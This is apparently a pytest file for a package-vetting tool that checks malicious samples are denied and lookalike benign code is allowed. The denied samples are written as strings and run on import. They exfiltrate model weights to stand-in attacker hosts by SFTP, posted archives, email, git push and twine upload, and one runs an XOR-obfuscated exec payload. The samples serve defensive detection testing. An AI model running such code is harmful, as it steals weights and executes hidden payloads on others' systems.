"""What a patient adversary tries next (ADR 0089), from ADR 0088's "still not detected" list:
weights put on another host through an SFTP client (``paramiko``, ``pysftp``); weights or a
hub's cache packed into an archive (``shutil.make_archive``, ``tarfile``, ``zipfile``) and
posted; weights attached to an email (``add_attachment``, ``MIMEBase.set_payload``) and
sent; ``git push`` and ``twine upload`` of weights, read as weights-exfiltration; a payload
XORed with ``itertools.cycle(KEY)`` and run. Each sample runs on import, is inert (vetting
only reads files), and was allowed or held on b9a6716, or denied there under another rule
(checked by running this file against that tree).

The near-misses are what real packages do that looks alike, and stay allowed."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import wheel
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

PAYLOAD = b"import os; os.system('id')"
KEY = b"\x13\x37\x42"
BLOB = bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(PAYLOAD))
POST = "requests.post('https://attacker.invalid/w', data=open(a, 'rb'))\n"

DENIED: dict[str, dict[str, str]] = {
    # 1. Weights put on another host by an SFTP client, on import.
    "paramiko-sshclient-open-sftp-put-weights": init(
        "import glob, paramiko\n"
        "c = paramiko.SSHClient()\n"
        "c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
        "c.connect('203.0.113.9', username='u', password='p')\n"
        "sftp = c.open_sftp()\n"
        "for p in glob.glob('/models/**/*.safetensors', recursive=True):\n"
        "    sftp.put(p, '/drop/' + p.rsplit('/', 1)[-1])\n"
    ),
    "paramiko-transport-sftpclient-put-weights": init(
        "import paramiko\n"
        "t = paramiko.Transport(('203.0.113.9', 22))\n"
        "t.connect(username='u', password='p')\n"
        "s = paramiko.SFTPClient.from_transport(t)\n"
        "s.put('/models/llama/model.safetensors', '/drop/m')\n"
    ),
    "pysftp-connection-put-weights": init(
        "import pysftp\n"
        "with pysftp.Connection('203.0.113.9', username='u', password='p') as sftp:\n"
        "    sftp.put('/models/llama/model.gguf')\n"
    ),
    # 2. Weights or a hub's cache packed into an archive, which is posted, on import.
    "hub-cache-make-archive-posted": init(
        "import shutil, requests\n"
        "from huggingface_hub.constants import HF_HUB_CACHE\n"
        "a = shutil.make_archive('/tmp/x', 'zip', root_dir=HF_HUB_CACHE)\n" + POST
    ),
    "weights-tarfile-add-posted": init(
        "import tarfile, requests\n"
        "a = '/tmp/m.tgz'\n"
        "with tarfile.open(a, 'w:gz') as t:\n"
        "    t.add('/srv/weights/model.safetensors')\n" + POST
    ),
    "globbed-weights-zipped-in-memory-posted": init(
        "import glob, io, zipfile, requests\n"
        "buf = io.BytesIO()\n"
        "z = zipfile.ZipFile(buf, 'w')\n"
        "for p in glob.glob('/models/**/*.safetensors', recursive=True):\n"
        "    z.write(p)\n"
        "z.close()\n"
        "requests.post('https://attacker.invalid/w', data=buf.getvalue())\n"
    ),
    # 3. Weights attached to an email, which is sent, on import.
    "weights-emailed-with-add-attachment": init(
        "import smtplib\n"
        "from email.message import EmailMessage\n"
        "msg = EmailMessage()\n"
        "msg['To'] = 'drop@attacker.invalid'\n"
        "p = '/models/llama/model.safetensors'\n"
        "msg.add_attachment(open(p, 'rb').read(), maintype='application', "
        "subtype='octet-stream')\n"
        "with smtplib.SMTP('mail.attacker.invalid', 587) as s:\n"
        "    s.send_message(msg)\n"
    ),
    "weights-emailed-with-mimebase-set-payload": init(
        "import smtplib\n"
        "from email.mime.base import MIMEBase\n"
        "from email.mime.multipart import MIMEMultipart\n"
        "msg = MIMEMultipart()\n"
        "part = MIMEBase('application', 'octet-stream')\n"
        "part.set_payload(open('/models/model.gguf', 'rb').read())\n"
        "msg.attach(part)\n"
        "s = smtplib.SMTP('mail.attacker.invalid')\n"
        "s.send_message(msg)\n"
    ),
    "weights-emailed-as-a-mimeapplication-part": init(
        "import smtplib\n"
        "from email.mime.application import MIMEApplication\n"
        "from email.mime.multipart import MIMEMultipart\n"
        "m = MIMEMultipart()\n"
        "m.attach(MIMEApplication(open('/models/m.gguf', 'rb').read()))\n"
        "smtplib.SMTP('mail.attacker.invalid').send_message(m)\n"
    ),
    # 5. A payload XORed with a key stream from ``itertools.cycle`` and run.
    "cycle-xor-of-a-written-blob-exec": init(
        "from itertools import cycle\n"
        f"KEY = {KEY!r}\n"
        f"BLOB = {BLOB!r}\n"
        "exec(bytes(a ^ b for a, b in zip(BLOB, cycle(KEY))))\n"
    ),
    "cycle-xor-of-a-package-file-exec": init(
        "import os, itertools\n"
        "KEY = [0x13, 0x37, 0x42]\n"
        "blob = open(os.path.join(os.path.dirname(__file__), 'data.bin'), 'rb').read()\n"
        "exec(bytes(a ^ b for a, b in zip(blob, itertools.cycle(KEY))))\n"
    ),
}

HELD: dict[str, dict[str, str]] = {}

ALLOWED: dict[str, dict[str, str]] = {
    # A deploy tool puts a log file on the caller's host when called.
    "paramiko-sftp-put-of-a-log-when-called": init(
        "import paramiko\n"
        "def ship(host, user, key):\n"
        "    c = paramiko.SSHClient()\n"
        "    c.connect(host, username=user, key_filename=key)\n"
        "    c.open_sftp().put('/var/log/app.log', '/srv/logs/app.log')\n"
    ),
    # A trainer puts its checkpoint on the caller's host when called.
    "pysftp-put-of-a-checkpoint-when-called": init(
        "import pysftp\n"
        "def publish(host, path='ckpt.safetensors'):\n"
        "    with pysftp.Connection(host) as s:\n"
        "        s.put(path)\n"
    ),
    # A backup tool archives its own config on import.
    "backup-tool-archives-its-config-on-import": init(
        "import os, shutil\n"
        "shutil.make_archive('/tmp/cfg', 'gztar', root_dir=os.path.expanduser('~/.config/tool'))\n"
    ),
    # A model packager zips a checkpoint on import into its own cache, sending nothing.
    "packager-zips-a-checkpoint-sending-nothing": init(
        "import zipfile\n"
        "with zipfile.ZipFile('/tmp/bundle.zip', 'w') as z:\n"
        "    z.write('ckpt/model.safetensors')\n"
    ),
    # An exporter archives a model folder and uploads it to the caller's URL when called.
    "exporter-archives-and-uploads-when-called": init(
        "import shutil, requests\n"
        "def export(url, model_dir='out/model.safetensors'):\n"
        "    a = shutil.make_archive('/tmp/m', 'zip', root_dir=model_dir)\n"
        "    requests.post(url, data=open(a, 'rb'))\n"
    ),
    # A reporting tool emails a CSV report when called.
    "email-with-a-csv-report-when-called": init(
        "import smtplib\n"
        "from email.message import EmailMessage\n"
        "def mail(to, host):\n"
        "    msg = EmailMessage()\n"
        "    msg['To'] = to\n"
        "    msg.add_attachment(open('report.csv', 'rb').read(), maintype='text', "
        "subtype='csv')\n"
        "    with smtplib.SMTP(host) as s:\n"
        "        s.send_message(msg)\n"
    ),
    # A test's repeating-XOR checksum, when called and over bytes written in the code.
    "repeating-xor-checksum-in-a-test": init(
        "from itertools import cycle\n"
        "KEY = b'\\x5a\\xa5'\n"
        "def checksum(data):\n"
        "    return sum(bytes(a ^ b for a, b in zip(data, cycle(KEY)))) & 0xFFFF\n"
        "EXPECTED = bytes(a ^ b for a, b in zip(b'hello', cycle(KEY)))\n"
    ),
    # A release script pushes its docs with git on import; no weights are named.
    "git-push-of-docs-names-no-weights": init(
        "import subprocess\nsubprocess.run(['git', 'push', 'origin', 'gh-pages'])\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


# 4. ``git push`` and ``twine upload`` of weights were denied as a dropper's commands; they
# are the theft of weights, and read so (still denied).
PUBLISHED: dict[str, dict[str, str]] = {
    "git-push-of-copied-weights-in-one-command": init(
        "import shutil, subprocess\n"
        "shutil.copytree('/models', '/tmp/r/models')\n"
        "subprocess.run('cd /tmp/r && git add models/*.safetensors && git commit -m x && '\n"
        "               'git push https://attacker.invalid/r.git', shell=True)\n"
    ),
    "git-add-of-weights-then-git-push": init(
        "import subprocess\n"
        "subprocess.run(['git', '-C', '/tmp/r', 'add', 'model.safetensors'])\n"
        "subprocess.run(['git', '-C', '/tmp/r', 'push', 'https://attacker.invalid/r.git'])\n"
    ),
    "twine-upload-of-weights": init(
        "import os\n"
        "os.system('twine upload --repository-url https://attacker.invalid/ "
        "/models/model.safetensors')\n"
    ),
}


@pytest.mark.parametrize("files", list(PUBLISHED.values()), ids=list(PUBLISHED))
def test_publishing_weights_reads_as_their_theft(files: dict[str, str]) -> None:
    report = vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", dict(files)))
    assert report.verdict is Outcome.DENY
    assert "weights-exfiltration" in {f.rule for f in report.findings}
